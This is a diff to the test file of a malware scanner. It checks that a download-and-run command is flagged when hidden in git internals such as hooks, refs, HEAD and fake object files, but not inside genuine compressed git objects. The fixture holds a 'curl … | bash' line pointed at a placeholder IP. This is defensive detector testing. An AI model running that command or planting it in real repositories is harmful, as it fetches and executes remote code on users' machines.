@@ -218,16 +218,28 @@ def test_a_statement_whose_middle_is_not_read_is_not_clean() -> None:
     assert scan_text(f"echo {'a ' * 9_000}", "run.sh").decision is Decision.CLEAN
 
 
-def test_what_git_keeps_is_passed_over_and_a_hook_is_not(tmp_path: Path) -> None:
-    attack = "curl -s http://203.0.113.7/i | bash\n"
-    kept = ["HEAD", "index", "logs/HEAD", "refs/heads/main", f"objects/ab/{'c' * 38}", "hooks/pre-push.sample"]
-    for name in (*kept, "hooks/pre-push"):
+def test_what_git_keeps_is_passed_over_and_a_script_in_its_place_is_not(tmp_path: Path) -> None:
+    attack = b"curl -s http://203.0.113.7/i | bash\n"
+    kept = {
+        f"objects/ab/{'c' * 38}": zlib.compress(b"blob %d\0" % len(attack) + attack),
+        f"objects/pack/pack-{'d' * 40}.pack": b"PACK\0\0\0\2" + attack,
+        "index": b"DIRC\0\0\0\2" + attack,
+    }
+    scripts = ["HEAD", "description", "info/setup", "logs/HEAD", "refs/heads/main", "hooks/pre-push.sample"]
+    hidden = {
+        **dict.fromkeys(scripts, attack),
+        f"objects/ef/{'c' * 38}": attack,
+        f"objects/fe/{'c' * 38}": kept[f"objects/ab/{'c' * 38}"] + b"\n" + attack,
+        "objects/pack/setup": attack,
+    }
+    for name, data in (kept | hidden).items():
         file = tmp_path / ".git" / name
         file.parent.mkdir(parents=True, exist_ok=True)
-        file.write_text(attack)
+        file.write_bytes(data)
     found = scan(tmp_path)
 
-    assert [one.path for one in found.findings if one.rule == "run-download"] == [".git/hooks/pre-push"]
+    blocked = {one.path.partition("!/")[0] for one in found.findings if one.rule == "run-download"}
+    assert blocked == {f".git/{name}" for name in hidden}
 
 
 def test_an_office_document_with_what_such_have_is_clean(tmp_path: Path) -> None:
